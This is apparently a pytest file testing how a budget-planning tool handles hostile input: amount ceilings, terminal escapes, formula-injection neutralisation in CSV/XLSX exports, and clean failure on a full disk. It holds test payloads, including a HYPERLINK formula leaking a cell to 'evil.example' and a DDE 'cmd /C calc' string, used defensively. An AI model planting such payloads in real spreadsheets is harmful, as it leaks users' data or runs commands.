"""Hostile input and faults (issue 13): amounts the editor refuses are not imported,
control characters never reach a terminal, spreadsheets never hold a formula that
came from data, workbooks cannot exhaust the machine, a flood of problems is
summarised, and an export that fails half-way leaves nothing behind."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from sqlalchemy import text

from itu_plan import UsageError, Workspace, access, editing
from itu_plan.bundle import import_bundle
from itu_plan.cli import main
from itu_plan.editing import CostLineKey
from tests.bundles import write_bundle

HANDMADE = Path(__file__).parent / "data" / "handmade"
COST_HEADER = "version,activity_code,year,category,grade,work_months,amount,funding_source_code\n"
CEILING = "1000000000000.00"  # CHF, itu_plan.values.MAX_CENTIMES


@pytest.fixture
def loaded(workspace: Workspace) -> Workspace:
    """A workspace holding the hand-made bundle; the acting user is its admin ``boss``."""
    import_bundle(workspace, HANDMADE)
    workspace.user = "boss"
    return workspace


def _run(ws: Workspace, capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = main(["--db", ws.url, "--user", "boss", *args])
    out, err = capsys.readouterr()
    return code, out, err


# -- one amount ceiling for the importer, the editor and users add --------------------------------


def test_the_importer_and_the_editor_keep_one_ceiling(
    loaded: Workspace, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    bundle = write_bundle(
        tmp_path / "at", {"cost_lines.csv": COST_HEADER + f"2006-2007 draft,A-2,2007,travel,,,{CEILING},RB\n"}
    )
    assert _run(loaded, capsys, "import", str(bundle), "--quiet")[0] == 0
    key = CostLineKey("2006-2007 draft", "A-2", 2007, "travel", None, "RB")
    with loaded.transaction() as s:  # what was imported, the editor saves again
        line = editing.update_cost_line(s, access.actor(s, "boss"), key, 1, {"amount": CEILING})
        assert line.amount_centimes == 10**14
    with loaded.transaction() as s, pytest.raises(UsageError, match=r"more than CHF 1,000,000,000,000\.00"):
        editing.update_cost_line(s, access.actor(s, "boss"), key, 1, {"amount": "1000000000000.01"})
    code, _, err = _run(
        loaded, capsys, "users", "add", "m2", "--role", "manager", "--units", "GS", "--limit", "1000000000000.01"
    )
    assert code == 2 and "more than CHF 1,000,000,000,000.00" in err
    code, _, err = _run(loaded, capsys, "users", "add", "m3", "--role", "manager", "--units", "GS", "--limit", "9" * 30)
    assert code == 2 and "Traceback" not in err and "overflow" not in err.lower()


def test_version_list_works_after_amounts_beyond_the_ceiling_are_refused(
    loaded: Workspace, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Fifteen-digit amounts used to import; a hundred of them overflowed every total
    (``version list``: exit 1, "integer overflow")."""
    rows = "".join(
        f"2006-2007 draft,A-2,2007,{c},,,999999999999999.99,F{i}\n" for i in range(50) for c in ("other", "travel")
    )
    sources = "code,name,kind\n" + "".join(f"F{i},Fund {i},voluntary\n" for i in range(50))
    bundle = write_bundle(tmp_path / "big", {"funding_sources.csv": sources, "cost_lines.csv": COST_HEADER + rows})
    code, _, err = _run(loaded, capsys, "import", str(bundle), "--quiet")
    assert code == 2
    assert err.splitlines()[0] == (
        "cost_lines.csv:2:amount: '999999999999999.99' is more than CHF 1,000,000,000,000.00, "
        "the largest amount a value may hold"
    )
    code, out, err = _run(loaded, capsys, "version", "list")
    assert (code, err) == (0, "")
    assert "2006-2007 draft" in out


# -- control characters never reach the terminal ---------------------------------------------------


def test_an_escape_stored_before_the_rule_never_reaches_the_terminal(
    loaded: Workspace, capsys: pytest.CaptureFixture[str]
) -> None:
    """The importer refuses an ESC (the bad-input corpus); a title stored before it did
    is printed escaped by the tables for people."""
    with loaded.engine.begin() as connection:
        connection.execute(
            text("UPDATE agreements SET title = :title WHERE code = 'AGR-1'"), {"title": "Tampere\x1b[2J\u202e"}
        )
    code, out, err = _run(loaded, capsys, "report", "agreements", "--as-of", "2007-06-30")
    assert (code, err) == (0, "")
    assert "\x1b" not in out and "\u202e" not in out
    assert "Tampere\\x1b[2J\\u202e" in out
    assert _run(loaded, capsys, "report", "agreements", "--format", "csv")[1].count("\x1b") == 1  # csv is exact


# -- no formula from data in a spreadsheet -------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"click")'
HOSTILE_AGREEMENTS = (
    "code,title,kind,parties,signed_date,in_force_date,status\n"
    f'AGR-9,"{FORMULA.replace(chr(34), chr(34) * 2)}",@SUM(A1),"+cmd|\' /C calc\'!A0",,,-2+3\n'
)


def _formulas(data: bytes) -> list[str]:
    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(data))  # not read-only: it reads each cell's type
    return [
        f"{s.title}!{c.coordinate}" for s in book.worksheets for row in s.iter_rows() for c in row if c.data_type == "f"
    ]


def test_exported_workbooks_hold_no_formula_and_bundle_csv_stays_exact(
    loaded: Workspace, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    import openpyxl

    bundle = write_bundle(tmp_path / "in", {"agreements.csv": HOSTILE_AGREEMENTS})
    assert _run(loaded, capsys, "import", str(bundle), "--quiet")[0] == 0
    assert _run(loaded, capsys, "export", str(tmp_path / "x"), "--format", "xlsx")[0] == 0
    data = (tmp_path / "x" / "bundle.xlsx").read_bytes()
    assert _formulas(data) == []
    sheet = openpyxl.load_workbook(tmp_path / "x" / "bundle.xlsx", read_only=True)["agreements"]
    assert [FORMULA, "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3"] in [
        [row[1], row[2], row[3], row[6]] for row in sheet.iter_rows(values_only=True)
    ]
    assert _run(loaded, capsys, "export", str(tmp_path / "c"))[0] == 0  # the bundle: exact
    exported = (tmp_path / "c" / "agreements.csv").read_text()
    assert ["AGR-9", FORMULA, "@SUM(A1)", "+cmd|' /C calc'!A0", "", "", "-2+3"] in csv.reader(io.StringIO(exported))


def test_the_export_button_neutralises_csv_and_writes_text_cells() -> None:
    import pandas as pd

    from widgets.export_button import to_csv, to_xlsx

    frame = pd.DataFrame(
        {
            "title": [FORMULA, "@SUM(A1)", "\tTab", "\rCR", "-2+3", "+41", "plain", None],
            "amount": [-123.45, 1, 2, 3, 4, 5, 6, 7],
            "code": ["-123.45", "-7", "=1", "+", "-", "@", "x", "y"],
        }
    )
    rows = list(csv.reader(io.StringIO(to_csv(frame).decode(), newline="")))
    assert rows[0] == ["title", "amount", "code"]
    assert [r[0] for r in rows[1:]] == [
        "'" + FORMULA, "'@SUM(A1)", "'\tTab", "'\rCR", "'-2+3", "'+41", "plain", "",
    ]  # fmt: skip
    assert [r[1] for r in rows[1:3]] == ["-123.45", "1.0"]  # numbers stay numbers
    assert [r[2] for r in rows[1:]] == ["-123.45", "-7", "'=1", "'+", "'-", "'@", "x", "y"]
    assert _formulas(to_xlsx(frame, "x")) == []


# -- exports moved into place whole ------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_full_disk_half_way_leaves_no_partial_export(
    loaded: Workspace, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, fmt: str
) -> None:
    import errno

    import itu_plan.bundle.export as export

    real = export.write_csv if fmt == "csv" else Path.write_bytes
    calls = []

    def full(*args: object, **kwargs: object) -> object:
        calls.append(1)
        if len(calls) == 3 or fmt == "xlsx":
            raise OSError(errno.ENOSPC, "No space left on device")
        return real(*args, **kwargs)  # type: ignore[operator]

    monkeypatch.setattr(export, "write_csv", full) if fmt == "csv" else monkeypatch.setattr(Path, "write_bytes", full)
    tmp_path = tmp_path / "exports"  # the workspace's own files aside
    tmp_path.mkdir()
    target = tmp_path / "out"
    code, out, err = _run(loaded, capsys, "export", str(target), "--format", fmt)
    assert (code, out) == (1, "")
    assert (
        err == f"itu-plan: could not write the export to {target}: No space left on device; nothing was written there\n"
    )
    assert list(tmp_path.iterdir()) == []  # neither the folder nor a hidden partial one
    existing = tmp_path / "kept"
    existing.mkdir()
    (existing / "notes.txt").write_text("mine")
    calls.clear()
    assert _run(loaded, capsys, "export", str(existing), "--format", fmt)[0] == 1
    assert [p.name for p in tmp_path.iterdir()] == ["kept"] and [p.name for p in existing.iterdir()] == ["notes.txt"]
    monkeypatch.undo()
    assert _run(loaded, capsys, "export", str(existing), "--format", fmt)[0] == 0
    assert "notes.txt" in [p.name for p in existing.iterdir()] and len(list(existing.iterdir())) > 2


@pytest.mark.skipif(not Path("/bin/mount").exists(), reason="needs mount")
def test_a_really_full_disk_gives_one_sentence_and_nothing_behind(demo_copy: str, tmp_path: Path) -> None:
    """A 256 kB tmpfs (when this runs as root): the real ENOSPC, in a process of its own,
    where openpyxl's zip archive used to fail again when collected (a traceback)."""
    import subprocess
    import sys

    disk = tmp_path / "disk"
    disk.mkdir()
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=256k", "tmpfs", str(disk)], capture_output=True).returncode:
        pytest.skip("cannot mount a tmpfs here (not root)")
    try:
        for fmt in ("xlsx", "csv"):
            result = subprocess.run(
                [sys.executable, "-m", "itu_plan.cli", "--db", demo_copy, "--user", "admin", "export", str(disk / fmt), "--format", fmt],
                capture_output=True, text=True, timeout=120,
            )  # fmt: skip
            assert result.returncode == 1
            assert result.stderr == (
                f"itu-plan: could not write the export to {disk / fmt}: No space left on device; "
                "nothing was written there\n"
            )
            assert list(disk.iterdir()) == []
    finally:
        subprocess.run(["umount", str(disk)], check=True)
